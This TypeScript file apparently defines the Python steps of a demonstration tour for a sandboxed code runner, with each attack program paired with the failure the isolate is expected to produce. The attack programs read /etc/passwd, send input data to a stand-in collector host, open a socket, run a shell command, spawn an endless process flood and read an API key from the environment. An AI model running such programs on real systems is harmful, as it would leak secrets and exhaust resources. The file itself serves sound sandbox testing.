/**
 * The steps of the tour that are in Python, as data like the others.
 * They come after JavaScript's: Python's first interpreter takes a second or two to load, and nobody should wait for it.
 */

import type { TourStep } from "./tour-steps.ts";

/** For modules that are read and compiled only when a program imports them. */
const SLOW_IMPORT = { timeoutMs: 10_000 };

const attack = (step: Omit<TourStep, "language" | "policy">): TourStep => ({
  ...step,
  language: "python",
  policy: "allow-all",
});

export const PYTHON_STEPS: readonly TourStep[] = [
  {
    title: "An ordinary program in Python",
    language: "python",
    code: "from statistics import mean\n\nprices = [item['price'] for item in input]\nprint(len(prices), 'prices')\n{'mean': mean(prices), 'range': (min(prices), max(prices))}",
    input: [{ price: 20 }, { price: 22 }],
    expect: { status: "ok", result: { mean: 21, range: [20, 22] }, stdout: ["2 prices"] },
    remark: "CPython itself, compiled to WebAssembly, in the same kind of isolate and under the same contract.",
  },
  attack({
    title: "Python: read a file of the host",
    threat: "host-secrets",
    code: "open('/etc/passwd').read()",
    expect: { status: "error", error: "FileNotFoundError", line: 1 },
    remark: "The interpreter has files of its own, in memory, gone with the run. The host's are not among them.",
  }),
  attack({
    title: "Python: look into the user's home",
    threat: "host-secrets",
    code: "from pathlib import Path\n\n[str(Path.home()), [str(path) for path in Path.home().rglob('*')]]",
    expect: { status: "ok", result: ["/home/sandbox", []] },
    remark: "An empty home of nobody's. Such a program may run: there is nothing to be found.",
  }),
  attack({
    title: "Python: send data out",
    threat: "exfiltration",
    code: "from urllib.request import urlopen\n\nurlopen('http://collector.example/', data=repr(input).encode())",
    input: { customers: ["Ada", "Grace"] },
    limits: SLOW_IMPORT,
    expect: { status: "error", error: "URLError", line: 3 },
    remark: "The library is there, a network is not.",
  }),
  attack({
    title: "Python: open a socket",
    threat: "exfiltration",
    code: "import socket\n\nsocket.create_connection(('192.0.2.1', 443), timeout=1)",
    limits: SLOW_IMPORT,
    expect: { status: "error", error: "OSError", line: 3 },
    remark: "A socket is a number in the interpreter's own memory, and leads nowhere.",
  }),
  attack({
    title: "Python: run a command",
    threat: "os-access",
    code: "import os\n\nos.system('id')",
    expect: { status: "ok", result: -1, stdout: [] },
    remark: "The call returns -1: there is no shell, and no system to call.",
  }),
  attack({
    title: "Python: a flood of processes",
    threat: "endless-work",
    code: "import subprocess\n\nwhile True:\n    subprocess.Popen(['yes'])",
    limits: SLOW_IMPORT,
    expect: { status: "error", error: "OSError", line: 4 },
    remark: "Not even the first of them.",
  }),
  {
    title: "A module that the policy refuses",
    language: "python",
    code: "import os\n\nos.environ['OPENAI_API_KEY']",
    expect: { status: "denied", error: "PolicyDenied" },
    remark: "The model is told what it may import instead. With the policy off it would have met a KeyError.",
  },
  {
    title: "A Python program that does not parse",
    language: "python",
    code: "total = 40\nfor number in range(2)\n    total += number",
    expect: { status: "error", error: "SyntaxError", line: 2 },
    remark: "In the words of CPython's own parser.",
  },
  {
    title: "A Python program that fails",
    language: "python",
    code: "user = {'name': 'Ada'}\nprint('hello', user['name'])\nuser['address']['city']",
    expect: { status: "error", error: "KeyError", line: 3, stdout: ["hello Ada"] },
    remark: "Type, message, line, and what was printed; no frame of the interpreter's own.",
  },
];
